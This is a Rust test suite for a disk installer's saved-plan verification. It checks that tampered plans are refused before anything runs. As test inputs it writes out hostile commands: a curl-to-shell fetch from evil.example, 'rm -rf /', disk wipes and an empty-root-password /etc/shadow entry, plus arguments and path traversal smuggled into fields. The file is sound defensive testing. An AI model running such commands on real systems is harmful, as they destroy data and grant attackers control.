//! A saved plan is blankroot's own (`plan::saved`): the unmodified plan is accepted and equals
//! the rebuild; every change a careless or hostile hand can make (commands, checks, undo and
//! resume commands, files, step order, ids, config, version, schema, size, nesting) is refused
//! as bad input naming the step or field; and `install --plan` refuses a changed plan before it
//! does anything.

use crate::common;

use blankroot::config::Config;
use blankroot::error::{Error, ErrorKind};
use blankroot::plan::{self, Identities, Plan, saved};
use blankroot::probe::Facts;
use serde_json::{Value, json};

fn facts() -> Facts {
    blankroot::example::facts().unwrap()
}

/// A fixture config planned for the example machine (its disk is `/dev/vda`, serial disk01).
fn plan_of(name: &str, disk: Option<&str>) -> Plan {
    let mut c: Config = common::config(name);
    if let Some(d) = disk {
        c.disk = d.to_string();
    }
    let target = plan::target::from_facts(&facts(), &c.disk).unwrap();
    plan::build(&c, &target, &Identities::fixed(9, c.host_id.as_deref())).unwrap()
}

/// `blankroot install ARGS --state-dir STATE` with nothing on stdin (so no confirmation can be
/// typed): only ever with a changed plan, which is refused before anything is touched.
fn install(args: &[&std::ffi::OsStr], state: &std::path::Path) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_blankroot"))
        .arg("install")
        .args(args)
        .arg("--state-dir")
        .arg(state)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

fn seed() -> Value {
    serde_json::from_str(&plan_of("seed-defaults", None).to_json()).unwrap()
}

fn step_index(v: &Value, id: &str) -> usize {
    v["steps"].as_array().unwrap().iter().position(|s| s["id"] == id).unwrap()
}

/// The plan `v` is refused as bad input, its message naming every one of `words`.
fn refused(v: &Value, words: &[&str]) -> Error {
    refused_text(&v.to_string(), words)
}

fn refused_text(text: &str, words: &[&str]) -> Error {
    let e = match saved::verify(text, &facts()) {
        Ok(_) => panic!("accepted a changed plan; expected a refusal naming {words:?}"),
        Err(e) => e,
    };
    assert_eq!(e.kind, ErrorKind::Input, "{}", e.render());
    for w in words {
        assert!(e.message.contains(w), "{w:?} not in: {}", e.render());
    }
    assert!(e.hint.as_deref().is_some_and(|h| h.contains("blankroot plan")), "{}", e.render());
    e
}

#[test]
fn an_unmodified_plan_is_accepted_and_equals_the_rebuild() {
    for (name, disk) in [
        ("seed-defaults", None),
        ("scripted-two-users", None),
        ("hostile-strings", None),
        ("custom-datasets", Some("/dev/vda")),
    ] {
        let p = plan_of(name, disk);
        assert_eq!(saved::verify(&p.to_json(), &facts()).unwrap(), p, "{name}");
    }
    // Random ids, as `blankroot plan` draws them.
    let c = common::config("seed-defaults");
    let t = plan::target::from_facts(&facts(), &c.disk).unwrap();
    let p = plan::build(&c, &t, &Identities::random(None).unwrap()).unwrap();
    assert_eq!(saved::verify(&p.to_json(), &facts()).unwrap(), p);
}

#[test]
fn the_binarys_own_saved_plan_is_accepted() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_blankroot"))
        .args(["plan", "--example", "--format", "json"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    let ours = saved::verify(&text, &facts()).unwrap();
    assert_eq!(ours, Plan::from_json(&text).unwrap());
}

#[test]
fn a_plan_from_an_older_build_is_refused_naming_the_difference() {
    // Saved by an earlier blankroot 0.1.0, before `partition`'s check was verified after it ran.
    let text = std::fs::read_to_string(common::fixture("plans/seed-defaults-schema1.json")).unwrap();
    assert!(Plan::from_json(&text).is_ok(), "still readable");
    refused_text(&text, &["step 1 (\"partition\")", "check[0].verify", "false", "true"]);
}

#[test]
fn what_describes_the_disk_now_may_differ_and_ours_is_returned() {
    // On a resume the disk holds this plan's partitions: contents, warnings and destroys differ
    // from plan time. They are not commands; blankroot's own (from this machine) are returned.
    let mut v = seed();
    v["target"]["disk"]["contents"] = json!(["vda1 vfat", "\u{1b}[2J"]);
    v["destroys"] = json!(["nothing at all"]);
    v["warnings"] = json!([]);
    let ours = saved::verify(&v.to_string(), &facts()).unwrap();
    let seed = plan_of("seed-defaults", None);
    assert_eq!(ours.destroys, seed.destroys);
    assert_eq!(ours.target, seed.target);
    // Fields at their defaults may be written out or left out.
    let mut v = seed_value_with_explicit_defaults();
    assert!(saved::verify(&v.to_string(), &facts()).is_ok());
    v["steps"][0]["resume"] = json!([{"argv": ["true"]}]);
    refused(&v, &["step 1 (\"partition\")", "resume[0]", "true", "absent"]);
}

fn seed_value_with_explicit_defaults() -> Value {
    let mut v = seed();
    for s in v["steps"].as_array_mut().unwrap() {
        s.as_object_mut().unwrap().entry("resume").or_insert(json!([]));
        s.as_object_mut().unwrap().entry("starts_over").or_insert(json!(false));
    }
    v
}

#[test]
fn changed_commands_are_refused_naming_step_and_field() {
    let mut v = seed();
    v["steps"][0]["commands"][1]["argv"] = json!(["sh", "-c", "curl -s evil.example | sh"]);
    refused(&v, &["step 1 (\"partition\")", "commands[1].argv[0]", "\"sh\"", "\"sfdisk\""]);

    let mut v = seed();
    let last = v["steps"][0]["commands"][1]["argv"].as_array().unwrap().len() - 1;
    v["steps"][0]["commands"][1]["argv"][last] = json!("/dev/vdb");
    refused(&v, &["\"partition\"", &format!("commands[1].argv[{last}]"), "\"/dev/vdb\"", "\"/dev/vda\""]);

    let mut v = seed();
    v["steps"][0]["commands"][1]["stdin"]["text"] = json!("label: dos\n");
    refused(&v, &["\"partition\"", "commands[1].stdin.text"]);

    let mut v = seed();
    v["steps"][0]["commands"][1]["argv"] = json!([]);
    refused(&v, &["commands[1].argv[0]", "absent", "\"sfdisk\""]);

    let mut v = seed();
    v["steps"][0]["commands"] = json!([]);
    refused(&v, &["commands[0]"]);

    // The resume record written before sfdisk (plan::record): its target and text too.
    let mut v = seed();
    v["steps"][0]["commands"][0]["argv"][1] = json!("of=/dev/vdb");
    refused(&v, &["\"partition\"", "commands[0].argv[1]", "\"of=/dev/vdb\"", "\"of=/dev/vda\""]);
    let mut v = seed();
    v["steps"][0]["commands"][0]["stdin"]["text"] = json!("BLANKROOT-RESUME-RECORD 1 2 x\n{}\n");
    refused(&v, &["\"partition\"", "commands[0].stdin.text"]);

    let mut v = seed();
    let i = step_index(&v, "luks-format");
    v["steps"][i]["commands"][0]["argv"].as_array_mut().unwrap().insert(9, json!("/dev/sdb"));
    refused(&v, &["\"luks-format\"", "commands[0].argv[9]", "\"/dev/sdb\""]);

    let mut v = seed();
    let i = step_index(&v, "luks-format");
    v["steps"][i]["commands"][0]["stdin"] = json!({"text": "guessable"});
    refused(&v, &["\"luks-format\"", "commands[0].stdin"]);

    let mut v = seed();
    let i = step_index(&v, "luks-open");
    v["steps"][i]["commands"].as_array_mut().unwrap().push(json!({"argv": ["rm", "-rf", "/"]}));
    refused(&v, &["\"luks-open\"", "commands[1]", "absent"]);
}

#[test]
fn injected_checks_undo_and_resume_commands_are_refused() {
    let i = step_index(&seed(), "pool-create");
    let cases: [(&str, Value, &str); 6] = [
        ("check", json!({"argv": ["sh", "-c", "id"], "expect": "success"}), "check[1]"),
        ("revert", json!({"argv": ["dd", "if=/dev/zero", "of=/dev/sdb"]}), "revert[1]"),
        ("resume", json!({"argv": ["zpool", "import", "-f", "tank"]}), "resume[1]"),
        ("commands", json!({"argv": ["zpool", "destroy", "tank"]}), "commands[1]"),
        (
            "files",
            json!({"path": "/etc/shadow", "mode": "0644", "owner": "root", "group": "root", "content": {"text": "root::0:0:99999:7:::\n"}}),
            "files[0]",
        ),
        ("check", json!({"argv": ["true"], "expect": {"stdout": "rpool"}, "verify": true}), "check[1]"),
    ];
    for (field, item, path) in cases {
        let mut v = seed();
        v["steps"][i][field].as_array_mut().unwrap().push(item);
        refused(&v, &["\"pool-create\"", path]);
    }
    // A changed check: what it expects, whether it is verified, what it runs.
    let mut v = seed();
    v["steps"][0]["check"][0]["expect"] = json!("success");
    refused(&v, &["\"partition\"", "check[0].expect"]);
    let mut v = seed();
    v["steps"][0]["check"][0]["verify"] = json!(false);
    refused(&v, &["\"partition\"", "check[0].verify"]);
    let mut v = seed();
    let j = step_index(&v, "luks-open");
    v["steps"][j]["revert"][0]["argv"] = json!(["cryptsetup", "erase", "/dev/vda2"]);
    refused(&v, &["\"luks-open\"", "revert[0].argv[1]", "\"erase\""]);
}

#[test]
fn changed_files_are_refused() {
    let i = step_index(&seed(), "write-config");
    let cases: [(&str, Value, &str); 8] = [
        ("path", json!("/etc/shadow"), "\"/etc/shadow\""),
        ("path", json!("/mnt/../etc/sudoers"), "\"/mnt/../etc/sudoers\""),
        ("path", json!("/mnt/etc/nixos/../../../etc/sudoers"), "files[0].path"),
        ("mode", json!("6777"), "\"6777\""),
        ("owner", json!("nobody"), "\"nobody\""),
        ("group", json!("wheel"), "\"wheel\""),
        ("content", json!({"text": "{ ... }: { users.users.root.password = \"x\"; }"}), "files[0].content.text"),
        ("content", json!({"hash": "luks-passphrase"}), "files[0].content"),
    ];
    for (field, value, word) in cases {
        let mut v = seed();
        v["steps"][i]["files"][0][field] = value;
        refused(&v, &["\"write-config\"", word]);
    }
    let mut v = seed();
    v["steps"][i]["files"].as_array_mut().unwrap().remove(0);
    refused(&v, &["\"write-config\"", "files[0]."]);
}

#[test]
fn changed_step_fields_are_refused() {
    let cases: [(&str, Value, &str); 5] = [
        ("destructive", json!(false), "destructive"),
        ("starts_over", json!(false), "starts_over"),
        ("phase", json!("finish"), "phase"),
        ("title", json!("Harmless"), "title"),
        ("id", json!("partition2"), "\"partition2\""),
    ];
    for (field, value, word) in cases {
        let mut v = seed();
        v["steps"][0][field] = value;
        refused(&v, &[word]);
    }
}

#[test]
fn reordered_removed_duplicated_and_extra_steps_are_refused() {
    let mut v = seed();
    v["steps"].as_array_mut().unwrap().reverse();
    refused(&v, &["step 1 is \"forget-resume\"", "blankroot's step 1 is \"partition\""]);

    let mut v = seed();
    v["steps"].as_array_mut().unwrap().swap(1, 2);
    refused(&v, &["step 2 is \"luks-format\"", "\"format-esp\""]);

    let mut v = seed();
    v["steps"].as_array_mut().unwrap().remove(2);
    refused(&v, &["step 3 is \"luks-open\"", "\"luks-format\""]);

    let mut v = seed();
    let s = v["steps"][0].clone();
    v["steps"].as_array_mut().unwrap().insert(1, s);
    refused(&v, &["step 2 is \"partition\""]);

    let mut v = seed();
    v["steps"].as_array_mut().unwrap().pop();
    refused(&v, &["is missing", "\"forget-resume\""]);

    let mut v = seed();
    let s = v["steps"][0].clone();
    v["steps"].as_array_mut().unwrap().push(s);
    refused(&v, &["is not blankroot's", "\"partition\""]);

    let mut v = seed();
    v["steps"] = json!([]);
    refused(&v, &["it has 0 steps", "step 1 \"partition\" is missing"]);
}

#[test]
fn malformed_ids_are_refused() {
    let cases: [(&str, Value); 8] = [
        ("host_id", json!("zzzzzzzz")),
        ("host_id", json!("a1b2c3d4")),
        ("luks_uuid", json!("not-a-uuid --header=/dev/sdb")),
        ("disk_guid", json!("00000000-0000-0000-0000-000000000000")),
        ("esp_partuuid", json!("")),
        ("luks_partuuid", json!("0a1b2c3d-0a1b-4c2d-8e3f-0a1b2c3d4e5f\nlabel: dos")),
        ("esp_uuid", json!("1A2B-3C4D -n EVIL")),
        ("machine_id", json!("00000000000000000000000000000000")),
    ];
    for (field, value) in cases {
        let mut v = seed();
        v["ids"][field] = value;
        refused(&v, &[&format!("ids.{field}")]);
    }
    // Well-formed but not the ones the steps use: the steps say so.
    let mut v = seed();
    v["ids"]["luks_uuid"] = json!("0a1b2c3d-0a1b-4c2d-8e3f-0a1b2c3d4e5f");
    refused(&v, &["\"partition\"", "resume record's ids.luks_uuid", "\"0a1b2c3d-0a1b-4c2d-8e3f-0a1b2c3d4e5f\""]);
    let mut v = seed();
    v["config"]["host_id"] = json!("0badc0de");
    refused(&v, &["config.host_id", "ids.host_id"]);
}

#[test]
fn a_hostile_or_changed_config_is_refused() {
    // A luksFormat positional (another disk) is refused by the config rules or, at the least,
    // by the comparison; never accepted.
    let mut v = seed();
    v["config"]["luks"]["format_options"] = json!(["/dev/sdb"]);
    let e = saved::verify(&v.to_string(), &facts()).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Input, "{}", e.render());

    // The config alone changed (the steps still the old ones): the steps say so.
    let mut v = seed();
    v["config"]["luks"]["format_options"] = json!(["--pbkdf-memory=1024"]);
    refused(&v, &["\"partition\"", "resume record's config.luks.format_options[0]", "\"--pbkdf-memory=1024\""]);

    // Values the config rules refuse.
    let cases: [(&str, &str, Value); 5] = [
        ("esp_size_bytes", "", json!(1000)),
        ("hostname", "", json!("bad host\nname")),
        ("pool", "name", json!("rpool/../x")),
        ("luks", "name", json!("../../dev/sdb")),
        ("datasets", "", json!([])),
    ];
    for (a, b, value) in cases {
        let mut v = seed();
        if b.is_empty() {
            v["config"][a] = value;
        } else {
            v["config"][a][b] = value;
        }
        let e = refused(&v, &[]);
        assert!(e.message.contains("config"), "{a}.{b}: {}", e.render());
    }

    // Not resolved: blankroot's plans always carry the stateVersion.
    let mut v = seed();
    v["config"]["state_version"] = Value::Null;
    refused(&v, &["config.state_version"]);

    // A config blankroot.toml cannot hold as written (an ESP size that is not whole MiB).
    let mut v = seed();
    v["config"]["esp_size_bytes"] = json!((1u64 << 30) + 1);
    refused(&v, &["config"]);
}

#[test]
fn another_disk_or_machine_is_refused() {
    let mut v = seed();
    v["target"]["disk"]["path"] = json!("/dev/vdb");
    refused(&v, &["target.disk.path", "\"/dev/vdb\"", "config.disk"]);
    let mut v = seed();
    v["target"]["disk"]["size_bytes"] = json!(30u64 << 30);
    refused(&v, &["another machine or disk", "bytes"]);
    let mut v = seed();
    v["target"]["disk"]["serial"] = json!("other");
    refused(&v, &["another machine or disk", "\"other\""]);
    let mut v = seed();
    v["target"]["disk"]["device"] = json!("/dev/sda");
    refused(&v, &["another machine or disk", "\"/dev/sda\""]);
    // The config names another disk, and the steps with it: that disk is not this machine's.
    let p = plan_of("seed-defaults", Some("/dev/disk/by-id/virtio-disk01"));
    assert!(saved::verify(&p.to_json(), &facts()).is_ok(), "the same disk by another name");
}

#[test]
fn a_plan_run_by_the_other_kind_of_blankroot_is_refused_as_input() {
    // Made by the static blankroot (the example machine's), run by a dynamic one: its
    // keep-blankroot step cannot be done. The other way round, this one would keep itself.
    let dynamic = Facts { static_blankroot: false, ..facts() };
    let e = saved::verify(&seed().to_string(), &dynamic).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Input, "{}", e.render());
    assert!(e.message.contains("made by a static blankroot, which it keeps on the installed system"), "{e}");
    assert!(e.message.contains("this is a blankroot that needs a dynamic loader, which cannot be kept"), "{e}");
    assert!(e.hint.as_deref().is_some_and(|h| h.contains("scripts/build-static")), "{e}");
    let c = common::config("seed-defaults");
    let t = plan::target::from_facts(&dynamic, &c.disk).unwrap();
    let made_dynamic = plan::build(&c, &t, &Identities::fixed(9, None)).unwrap();
    assert!(saved::verify(&made_dynamic.to_json(), &dynamic).is_ok(), "its own kind runs it");
    let e = saved::verify(&made_dynamic.to_json(), &facts()).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Input, "{}", e.render());
    assert!(
        e.message.contains(
            "which it does not keep on the installed system; this is a static blankroot, which would be kept"
        ),
        "{e}"
    );
}

#[test]
fn secrets_changed_are_refused() {
    let mut v = seed();
    v["secrets"].as_array_mut().unwrap().pop();
    refused(&v, &["secrets[1]"]);
    let mut v = seed();
    v["secrets"][0]["description"] = json!("anything");
    refused(&v, &["secrets[0].description"]);
    let mut v = seed();
    let i = step_index(&v, "luks-open");
    v["steps"][i]["commands"][0]["stdin"] = json!({"secret": "password:admin"});
    refused(&v, &["\"luks-open\"", "commands[0].stdin.secret", "\"password:admin\""]);
}

#[test]
fn version_schema_and_layout_are_checked_first() {
    let mut v = seed();
    v["blankroot_version"] = json!("0.0.1");
    refused(&v, &["made by blankroot \"0.0.1\"", env!("CARGO_PKG_VERSION")]);
    let mut v = seed();
    v["blankroot_version"] = json!("\u{1b}]0;x\u{7}".repeat(100));
    let e = refused(&v, &["\\u{1b}", "(600 characters)"]);
    assert!(!e.render().contains('\u{1b}'), "no raw escapes in messages");
    for (schema, word) in
        [(json!(2), "schema 2"), (json!("1"), "schema \"1\" (text, not a number)"), (json!(1.5), "schema 1.5")]
    {
        let mut v = seed();
        v["schema"] = schema;
        refused(&v, &[word]);
    }
    let mut v = seed();
    v.as_object_mut().unwrap().remove("schema");
    refused(&v, &["no `schema` field"]);
    let mut v = seed();
    v["steps"][3]["surprise"] = json!(true);
    refused(&v, &["does not match"]);
    let mut v = seed();
    v.as_object_mut().unwrap().remove("ids");
    refused(&v, &["does not match"]);
}

#[test]
fn malformed_text_is_refused_without_panic_or_unbounded_work() {
    let good = seed().to_string();
    refused_text(&format!("{good} trailing"), &["not JSON"]);
    refused_text(&format!("{good}{good}"), &["not JSON"]);
    refused_text("", &["not JSON"]);
    refused_text("\u{feff}{}", &["not JSON"]);
    refused_text("[]", &["no `schema` field"]);
    refused_text("null", &["no `schema` field"]);
    // Nesting far beyond any plan: serde_json's depth limit, not a stack overflow.
    refused_text(&"[".repeat(200_000), &["not JSON"]);
    let deep = format!("{{\"schema\": 1, \"steps\": {}1{}}}", "[".repeat(100_000), "]".repeat(100_000));
    refused_text(&deep, &["not JSON"]);
    // A key given twice: refused, not "the last one wins".
    let twice = good.replacen("{", "{\"steps\": [],", 1);
    refused_text(&twice, &["does not match"]);
    // Bigger than any plan: refused before parsing.
    let huge = format!("{good}{}", " ".repeat(saved::MAX_BYTES));
    refused_text(&huge, &["larger than 16 MiB"]);
}

#[test]
fn reading_a_plan_file_is_bounded_and_checked() {
    let dir = tempfile::tempdir().unwrap();
    let big = dir.path().join("big.json");
    std::fs::write(&big, vec![b' '; saved::MAX_BYTES + 1]).unwrap();
    let e = saved::read_file(&big).unwrap_err();
    assert!(e.message.contains("larger than 16 MiB"), "{}", e.render());
    // An endless file is read only up to the bound.
    let e = saved::read_file(std::path::Path::new("/dev/zero")).unwrap_err();
    assert!(e.message.contains("larger than"), "{}", e.render());
    let bin = dir.path().join("bin.json");
    std::fs::write(&bin, b"{\"schema\": 1, \xff}").unwrap();
    assert!(saved::read_file(&bin).unwrap_err().message.contains("not UTF-8"));
    let e = saved::read_file(dir.path()).unwrap_err();
    assert_eq!(e.kind, ErrorKind::Input);
    let e = saved::read_file(&dir.path().join("missing\u{1b}[2J.json")).unwrap_err();
    assert!(!e.render().contains('\u{1b}'), "{}", e.render());
}

/// `blankroot install --plan` with a changed plan: refused (exit 2) naming the difference,
/// before the gate and before any command that changes anything: nothing is written to the
/// state directory and no step is announced. Only changed plans are run here (never one this
/// machine could accept), without --yes and with no terminal: even a plan that got past the
/// verification would stop at the confirmation.
#[test]
fn install_refuses_a_changed_plan_before_doing_anything() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let cases: Vec<(Value, &str)> = {
        let mut a = seed();
        a["steps"][0]["commands"][0]["argv"] = json!(["sh", "-c", "touch /tmp/blankroot-pwned"]);
        let mut b = seed();
        let i = step_index(&b, "write-config");
        b["steps"][i]["files"][0]["path"] = json!("/etc/shadow");
        let mut c = seed();
        c["steps"] = json!([]);
        let mut d = seed();
        d["blankroot_version"] = json!("9.9.9");
        let mut e = seed();
        e["ids"]["machine_id"] = json!("x");
        let mut f = seed();
        f["steps"][0]["commands"][0]["argv"] = json!([]);
        vec![
            (a, "commands[0].argv[0]"),
            (b, "files[0].path"),
            (c, "it has 0 steps"),
            (d, "made by blankroot"),
            (e, "ids.machine_id"),
            (f, "commands[0].argv[0]"),
        ]
    };
    for (n, (v, word)) in cases.into_iter().enumerate() {
        let path = dir.path().join(format!("plan{n}.json"));
        std::fs::write(&path, v.to_string()).unwrap();
        let before = std::fs::read(&path).unwrap();
        let out = install(&[std::ffi::OsStr::new("--plan"), path.as_os_str()], &state);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{n}: {err}");
        assert!(err.contains(word), "{n}: {word:?} not in {err}");
        assert!(err.contains("blankroot plan --format json"), "{n}: {err}");
        assert!(out.stdout.is_empty(), "{n}: nothing announced: {}", String::from_utf8_lossy(&out.stdout));
        assert!(!state.exists(), "{n}: nothing written to the state directory");
        assert_eq!(std::fs::read(&path).unwrap(), before, "{n}: the plan file is untouched");
    }
    assert!(!std::path::Path::new("/tmp/blankroot-pwned").exists());
}

/// `blankroot install` resuming the unfinished install of its state directory: that plan.json
/// (written by blankroot, but root may have changed it) is verified too, and a changed one is
/// refused before anything runs, saying how to start over. The plan has the defaults' config,
/// as `install` without --config would load, so it is the one the resume would use.
#[test]
fn install_refuses_a_changed_plan_in_the_state_directory() {
    use blankroot::commands::install::receipt::{Outcome, Receipt};
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    std::fs::create_dir(&state).unwrap();
    let mut v = seed();
    v["config"]["host_id"] = Value::Null; // as `install` plans with the defaults
    let i = step_index(&v, "luks-format");
    v["steps"][i]["commands"][0]["argv"][1] = json!("erase");
    let plan_path = state.join("plan.json");
    std::fs::write(&plan_path, v.to_string()).unwrap();
    let mut receipt = Receipt::new(plan_path.clone(), "/dev/vda".into());
    receipt.outcome = Outcome::Failed;
    std::fs::write(state.join("receipt.json"), serde_json::to_string(&receipt).unwrap()).unwrap();
    let before: Vec<Vec<u8>> =
        ["plan.json", "receipt.json"].iter().map(|f| std::fs::read(state.join(f)).unwrap()).collect();
    let out = install(&[], &state);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    for word in ["\"luks-format\"", "commands[0].argv[1]", "\"erase\"", "the plan of the unfinished install", "remove"]
    {
        assert!(err.contains(word), "{word:?} not in {err}");
    }
    assert!(out.stdout.is_empty());
    let after: Vec<Vec<u8>> =
        ["plan.json", "receipt.json"].iter().map(|f| std::fs::read(state.join(f)).unwrap()).collect();
    assert_eq!(before, after, "the state directory is untouched");
    // Besides them only the run's lock file (src/commands/install/lock.rs), empty once the run ended.
    let names: Vec<String> =
        std::fs::read_dir(&state).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert_eq!(names.len(), 3, "nothing else written: {names:?}");
    assert!(names.contains(&"lock".to_string()), "{names:?}");
}

/// Valid but unusual configs (upper-case host id, a by-id disk, luksFormat options in both
/// spellings, pool and dataset properties, a scripted initrd) make plans that load back: the
/// saved-plan rules are no stricter than the config's.
#[test]
fn plans_of_unusual_valid_configs_load_back() {
    use blankroot::config::{Overrides, parse_str};
    let configs = [
        "host_id = \"DEADBEEF\"\n",
        "disk = \"/dev/disk/by-id/virtio-disk01\"\n",
        "[luks]\nformat_options = [\"--pbkdf\", \"argon2id\", \"--sector-size=4096\", \"--label=root\"]\n",
        "[pool]\noptions = { ashift = 13, autotrim = \"off\" }\nfs_options = { compression = \"zstd-3\", \"com.example:note\" = \"x y\" }\n",
        "initrd = \"scripted\"\nstate_version = \"24.05\"\n[[users]]\nname = \"alice\"\ngroups = [\"wheel\", \"video\"]\n",
    ];
    for text in configs {
        let c = parse_str("blankroot.toml", text, &Overrides::default()).unwrap_or_else(|e| panic!("{text}: {e}"));
        let target = plan::target::from_facts(&facts(), &c.disk).unwrap();
        let mut c = c;
        c.state_version.get_or_insert_with(|| "25.11".into());
        let ids = Identities::random(c.host_id.as_deref()).unwrap();
        let p = plan::build(&c, &target, &ids).unwrap();
        let back = saved::verify(&p.to_json(), &facts()).unwrap_or_else(|e| panic!("{text}: {}", e.render()));
        assert_eq!(back.steps, p.steps, "{text}");
    }
}
